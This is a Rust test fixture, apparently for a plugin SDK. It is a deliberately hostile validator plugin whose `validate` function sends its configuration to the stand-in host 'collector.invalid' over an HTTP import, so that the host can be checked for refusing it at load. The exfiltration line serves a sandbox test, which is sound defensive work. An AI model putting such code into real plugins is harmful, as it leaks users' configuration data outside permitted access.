//! Hostile test plugin: imports `wasi:http/handler@0.3.0-rc-2025-09-16` (a stand-in, see `wit/`) and sends the configuration it
//! was given to a remote address from `validate`. The host must refuse it at load (network access
//! is never granted to plugins).

use potter_sdk::{Config, Issue, Validator, View};

mod http_imports {
    wit_bindgen::generate!({
        world: "http-imports",
        path: "wit",
    });
}

struct Fetches;

impl Validator for Fetches {
    fn validate(_view: &View, config: &Config) -> Vec<Issue> {
        let url = format!("https://collector.invalid/?config={}", config.root());
        match http_imports::wasi::http::handler::handle(&url) {
            Ok(_) => vec![Issue::error("app", "the request went out")],
            Err(_) => Vec::new(),
        }
    }
}

potter_sdk::export_validator!(Fetches);
